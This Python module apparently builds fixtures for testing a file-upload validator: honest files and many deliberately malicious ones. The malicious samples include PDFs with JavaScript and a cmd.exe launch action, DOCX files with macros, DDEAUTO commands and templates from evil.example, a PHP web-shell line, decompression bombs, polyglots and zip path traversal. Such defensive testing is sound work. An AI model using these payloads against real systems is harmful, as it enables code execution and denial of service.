"""Files to send: honest ones, and ones made to deceive."""

import io
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image
from PIL.ExifTags import GPS, IFD, Base

Parts = dict[str, bytes | str]

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.{main}"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
    'TargetMode="External"/></Relationships>'
)


def jpeg(width: int = 64, height: int = 48, exif: Image.Exif | None = None) -> bytes:
    made = io.BytesIO()
    picture = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    picture.save(made, "JPEG", exif=exif or Image.Exif(), comment=b"tac gia: Nguyen Van A")
    return made.getvalue()


def jpeg_with_place() -> bytes:
    """Return a picture lying on its side, with camera and place in EXIF."""
    exif = Image.Exif()
    exif[Base.Orientation] = 6
    exif[Base.Make] = "SECRETCAM"
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (16.0, 27.0, 42.0)
    return jpeg(exif=exif)


def png(mode: str = "RGBA", size: tuple[int, int] = (40, 30)) -> bytes:
    made = io.BytesIO()
    Image.new(mode, size).save(made, "PNG")
    return made.getvalue()


def huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """Return a small file that says it is a huge picture."""

    def chunk(name: bytes, data: bytes) -> bytes:
        body = name + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    rows = zlib.compress(bytes(100_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (9 + n, one) for n, one in enumerate(objects))
    return (
        head + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\n"
        b"startxref\n9\n%%EOF\n" + tail
    )  # fmt: skip


def object_stream(content: bytes, entries: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream" % (
        len(packed), entries, packed,
    )  # fmt: skip


def docx(parts: Parts | None = None, main: str = "document.main+xml") -> bytes:
    """Return a document; `parts` come beside its own or in their place."""
    held: Parts = {
        "[Content_Types].xml": _TYPES.format(main=main),
        "word/document.xml": "<w:document><w:t>Đơn đề nghị</w:t></w:document>",
        **(parts or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in held.items():
            package.writestr(name, content)
    return made.getvalue()


def relations(kind: str, target: str) -> Parts:
    return {"word/_rels/document.xml.rels": _RELATIONS.format(kind=kind, target=target)}


def xlsx() -> bytes:
    made = io.BytesIO()
    book = Workbook()
    book.active.append(["Tên", "Số"])
    book.save(made)
    return made.getvalue()


def locked(package: bytes) -> bytes:
    """Return a package whose parts say that they are encrypted."""
    changed = bytearray(package)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + flags] |= 1
            place = changed.find(mark, place + 4)
    return bytes(changed)


def swollen(megabytes: int = 90) -> bytes:
    """Return a document of kilobytes that unpacks to very much."""
    return docx({"word/media/zeros.bin": bytes(megabytes * 1024 * 1024)})


GOOD = {
    "jpg": jpeg(), "png": png(), "pdf": pdf(b"(xin chao)"), "docx": docx(), "xlsx": xlsx(),
}  # fmt: skip

BAD: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty"),
    "a program": (b"MZ\x90\x00" + bytes(100), "unknown_type"),
    "a page": (b"<html><script>alert(1)</script></html>", "unknown_type"),
    "an SVG picture": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "unknown_type"),
    "a GIF": (b"GIF89a" + bytes(40), "unknown_type"),
    "an archive": (docx({"[Content_Types].xml": "<Types/>"}), "unknown_type"),
    "an old or locked document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "encrypted"),
    "a JPEG cut off": (jpeg(640, 480)[:2000], "damaged"),
    "a PNG cut off": (png(size=(300, 300))[:60], "damaged"),
    "a JPEG that is only a beginning": (b"\xff\xd8\xff\xe0<?php system($_GET[0]);", "damaged"),
    "a huge picture": (huge_png(), "too_large_inside"),
    "a picture of two gigapixels": (huge_png(65_000, 30_000), "too_large_inside"),
    "a PDF cut off": (pdf(bytes(4_000))[:1_500], "damaged"),
    "a PDF with a script": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active_content"),
    "a script with a veiled name": (pdf(b"<< /S /J#61vaScr#69pt >>"), "active_content"),
    "a packed script": (pdf(object_stream(b"5 0 << /S /JavaScript >>")), "active_content"),
    "a packed script, all veiled": (
        pdf(object_stream(b"<< /S /#4aavaScript >>").replace(b"/ObjStm", b"/Obj#53tm")),
        "active_content",
    ),
    "a PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active_content"),
    "a PDF with a file in it": (pdf(b"<< /Type /EmbeddedFile >>"), "active_content"),
    "a locked PDF": (pdf(b"<< /Encrypt 5 0 R >>"), "encrypted"),
    "a PDF packed oddly": (
        pdf(object_stream(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]")), "damaged",
    ),
    "a packed stream that ends too early": (
        pdf(object_stream(b"5 0 << /Type /Page >>" * 50).replace(b"\nendstream", b"", 1)[:-30]
            + b"endstream"), "damaged",
    ),
    "a PDF of very many parts": (
        pdf(object_stream(b"x") * 20_001), "too_large_inside",
    ),
    "a swelling PDF": (pdf(object_stream(bytes(80 * 1024 * 1024))), "too_large_inside"),
    "a PDF that is a page too": (pdf(head=b"%PDF-1.7\n<html><script>"), "two_kinds"),
    "a PDF that is an archive too": (pdf(tail=docx()), "two_kinds"),
    "a PDF around an archive": (pdf(docx()), "two_kinds"),
    "a document cut off": (docx()[:-30], "damaged"),
    "a document behind a PDF": (b"%PDF-1.4\n" + docx(), "damaged"),
    "a document before a PDF": (docx() + pdf(), "two_kinds"),
    "a document with a comment": (docx()[:-2] + b"\x04\x00<b/>", "two_kinds"),
    "macros by name": (docx({"word/vbaProject.bin": b"x"}), "active_content"),
    "macros by type": (docx(main="ms-word.document.macroEnabled.main+xml"), "active_content"),
    "a program inside": (docx({"word/media/run.exe": b"MZ"}), "active_content"),
    "an embedded object": (docx({"word/embeddings/oleObject1.bin": b"x"}), "active_content"),
    "a document in a document with macros": (
        docx({"word/embeddings/inner.docx": docx({"word/vbaProject.bin": b"x"})}),
        "active_content",
    ),
    "a template from outside": (
        docx(relations("attachedTemplate", "https://evil.example/t.dotm")), "active_content",
    ),
    "a picture from a share": (
        docx(relations("image", "file://evil.example/x.png")), "active_content",
    ),
    "a command in a field": (
        docx({"word/document.xml": "<w:instrText>DDEAUTO c:\\x</w:instrText>"}), "active_content",
    ),
    "a template behind a bracket": (
        docx({
            "word/_rels/document.xml.rels": "<R><Relationship X='>' TargetMode='External' "
            "Type='x/attachedTemplate' Target='https://evil.example'/></R>"
        }),
        "active_content",
    ),
    "text that never begins": (docx({"word/document.xml": "a" * 100_000}), "damaged"),
    "entities": (docx({"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]>"}), "active_content"),
    "entities in UTF-16": (
        docx({"word/document.xml": "<!DOCTYPE x>".encode("utf-16")}), "active_content",
    ),
    "a path upwards": (docx({"../../etc/passwd": "x"}), "damaged"),
    "an absolute path": (docx({"/etc/passwd": "x"}), "damaged"),
    "a locked part": (locked(docx()), "encrypted"),
    "a swelling document": (swollen(), "too_large_inside"),
    "too many parts": (docx({f"word/{n}.xml": "" for n in range(5_001)}), "too_large_inside"),
}  # fmt: skip
